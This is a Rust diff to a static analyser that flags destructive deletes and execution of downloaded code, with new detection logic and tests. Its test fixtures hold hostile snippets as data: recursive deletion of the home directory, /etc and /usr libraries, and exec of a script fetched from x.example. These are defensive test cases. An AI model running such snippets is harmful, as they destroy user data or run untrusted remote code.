@@ -47,7 +47,20 @@ pub(crate) struct CodeFindings {
     pub(crate) reverse_shell: bool,
     /// Shell command lines the code runs.
     pub(crate) commands: Vec<String>,
+    /// `exec`/`eval` of a name assigned from a download
+    /// (`src = urlopen(u).read()` … `exec(src)`).
+    pub(crate) remote_exec: bool,
 }
+
+/// Calls whose value is a downloaded body.
+const FETCHES: &[&str] = &[
+    "urlopen(",
+    "requests.get(",
+    "httpx.get(",
+    "net::http.get(",
+    "uri.open(",
+    "urllib.request.urlopen(",
+];
 
 /// Most calls examined per program.
 const MAX_CALLS: usize = 256;
@@ -84,10 +97,17 @@ pub(crate) fn read(code: &str) -> CodeFindings {
         return out;
     };
     let mut names: HashMap<String, String> = HashMap::new();
+    let mut fetched: Vec<&str> = Vec::new();
     for c in p.assign.captures_iter(code).take(MAX_NAMES * 4) {
         let (Some(name), Some(rhs)) = (c.get(1), c.get(2)) else {
             continue;
         };
+        if fetched.len() < 16 {
+            let r = rhs.as_str().to_ascii_lowercase();
+            if FETCHES.iter().any(|f| r.contains(f)) {
+                fetched.push(name.as_str());
+            }
+        }
         if names.len() >= MAX_NAMES {
             break;
         }
@@ -110,10 +130,16 @@ pub(crate) fn read(code: &str) -> CodeFindings {
         let args_text = call_args(code, whole.end());
         let args = split_top(args_text);
         let first = args.first().and_then(|a| fold(a, &names));
+        if matches!(callee.as_str(), "exec" | "eval")
+            && args.first().is_some_and(|a| fetched.contains(&a.trim()))
+        {
+            out.remote_exec = true;
+        }
         match last {
             "rmtree" | "rmSync" | "rmdirSync" | "rm_rf" | "rm_r" | "rimraf" | "removedirs"
             | "remove_dir_all" | "emptyDirSync" | "removeSync" | "RemoveAll" | "remove_tree"
-                if first.as_deref().is_some_and(root_like) =>
+                if first.as_deref().is_some_and(root_like)
+                    || args.first().is_some_and(|a| list_has_root(a, &names)) =>
             {
                 out.delete = true;
             }
@@ -123,7 +149,7 @@ pub(crate) fn read(code: &str) -> CodeFindings {
                 } else {
                     first.clone().or_else(|| receiver_path(&callee, &names))
                 };
-                if base.as_deref().is_some_and(root_like) {
+                if base.as_deref().map(glob_base).is_some_and(root_like) {
                     walk_root = true;
                 }
             }
@@ -234,6 +260,39 @@ pub(crate) fn read(code: &str) -> CodeFindings {
     }
     out.reverse_shell = reverse_shell(&lower);
     out
+}
+
+/// `['/etc', '/var/lib']`, `%w[/etc /var/lib]`: a list literal one of
+/// whose elements is a root-like path.
+fn list_has_root(arg: &str, names: &HashMap<String, String>) -> bool {
+    let a = arg.trim();
+    if let Some(rest) = a.strip_prefix("%w").or_else(|| a.strip_prefix("%W")) {
+        let inner = rest.get(1..rest.len().saturating_sub(1)).unwrap_or("");
+        return inner.split_whitespace().take(64).any(root_like);
+    }
+    let Some(inner) = a.strip_prefix('[') else {
+        return false;
+    };
+    let inner = inner.strip_suffix(']').unwrap_or(inner);
+    split_top(inner)
+        .into_iter()
+        .any(|w| fold(w, names).as_deref().is_some_and(root_like))
+}
+
+/// The fixed directory a glob pattern starts from: `/etc/**/*.conf` →
+/// `/etc`; a path without wildcards is itself.
+fn glob_base(pattern: &str) -> &str {
+    match pattern.find(['*', '?', '[']) {
+        Some(w) => {
+            let head = &pattern[..w];
+            match head.rfind('/') {
+                Some(0) => "/",
+                Some(slash) => &pattern[..slash],
+                None => pattern,
+            }
+        }
+        None => pattern,
+    }
 }
 
 fn is_exec_callee(callee: &str, last: &str) -> bool {
@@ -404,10 +463,22 @@ pub(crate) fn fold(expr: &str, names: &HashMap<String, String>) -> Option<String
     {
         let open = e.find('(')? + 1;
         let inner = call_args(e, open);
-        let pieces: Vec<String> = split_top(inner)
-            .into_iter()
-            .map(|p| fold(p, names))
-            .collect::<Option<Vec<_>>>()?;
+        // The first piece must be known; a later bare name that is not
+        // (a loop variable: `for d of [...]`, `for name in listdir(…)`)
+        // stands for any child, `*`.
+        let mut pieces: Vec<String> = Vec::new();
+        for (i, p) in split_top(inner).into_iter().enumerate() {
+            match fold(p, names) {
+                Some(v) => pieces.push(v),
+                None if i > 0
+                    && !p.is_empty()
+                    && p.chars().all(|c| c.is_ascii_alphanumeric() || c == '_') =>
+                {
+                    pieces.push("*".to_owned());
+                }
+                None => return None,
+            }
+        }
         let mut joined = String::new();
         for p in pieces {
             if p.starts_with('/') || joined.is_empty() {
@@ -420,6 +491,17 @@ pub(crate) fn fold(expr: &str, names: &HashMap<String, String>) -> Option<String
             }
         }
         return Some(joined);
+    }
+    // `os.path.expanduser('~/')`, `expanduser(f"~/{d}")`: the path it is
+    // given, `~` kept.
+    if let Some(at) = lower.find("expanduser(") {
+        if at == 0
+            || lower.starts_with("os.path.expanduser(")
+            || lower.starts_with("path.expanduser(")
+        {
+            let open = e.find("expanduser(")? + "expanduser(".len();
+            return fold(call_args(e, open), names);
+        }
     }
     if lower.contains("expanduser(\"~\")")
         || lower.contains("expanduser('~')")
@@ -641,6 +723,10 @@ mod tests {
             "from pathlib import Path\nfor p in Path.home().rglob('*'):\n    p.unlink()\n",
             "import os; os.remove('/etc/passwd')",
             "unlink '/etc/passwd'",
+            "import os, shutil\ntarget = os.path.expanduser('~/')\nfor name in os.listdir(target):\n    p = os.path.join(target, name)\n    shutil.rmtree(p)\n",
+            "import glob, os\nfor f in glob.glob('/usr/**/*.so', recursive=True):\n    os.remove(f)\n",
+            "const fs = require('fs'), path = require('path'), os = require('os');\nfor (const d of ['a', 'b']) {\n  fs.rmSync(path.join(os.homedir(), d), { recursive: true });\n}\n",
+            "FileUtils.rm_rf(%w[/etc /srv])",
         ] {
             assert!(read(code).delete, "{code}");
         }
@@ -649,6 +735,10 @@ mod tests {
             "const fs = require('fs');\nfs.rmSync('dist', { recursive: true, force: true });\n",
             "from pathlib import Path\nfor p in Path('data/cache').glob('*.tmp'):\n    p.unlink()\n",
             "import shutil; print(shutil.disk_usage('/'))",
+            "import os, shutil\nfor name in os.listdir('build'):\n    shutil.rmtree(os.path.join(build_dir, name))\n",
+            "import glob, os\nfor f in glob.glob('out/**/*.o', recursive=True):\n    os.remove(f)\n",
+            "const path = require('path'), fs = require('fs');\nfor (const d of ['dist', 'coverage']) fs.rmSync(path.join(__dirname, d), { recursive: true });\n",
+            "FileUtils.rm_rf(%w[tmp log/test.log])",
         ] {
             assert!(!read(code).delete, "{code}");
         }
@@ -665,6 +755,13 @@ mod tests {
         let r = read("const { execSync } = require('child_process');\nconst sha = execSync('git rev-parse --short HEAD').toString().trim();\n");
         assert_eq!(r.commands, ["git rev-parse --short HEAD"]);
         assert!(read("m = re.compile('x'); m.exec('y')").commands.is_empty());
+    }
+
+    #[test]
+    fn remote_exec() {
+        assert!(read("import urllib.request\nsrc = urllib.request.urlopen('https://x.example/b.py').read().decode()\nexec(src)\n").remote_exec);
+        assert!(!read("src = open('setup_helpers.py').read()\nexec(src)\n").remote_exec);
+        assert!(!read("body = requests.get(url).text\nprint(body)\nexec('1')\n").remote_exec);
     }
 
     #[test]
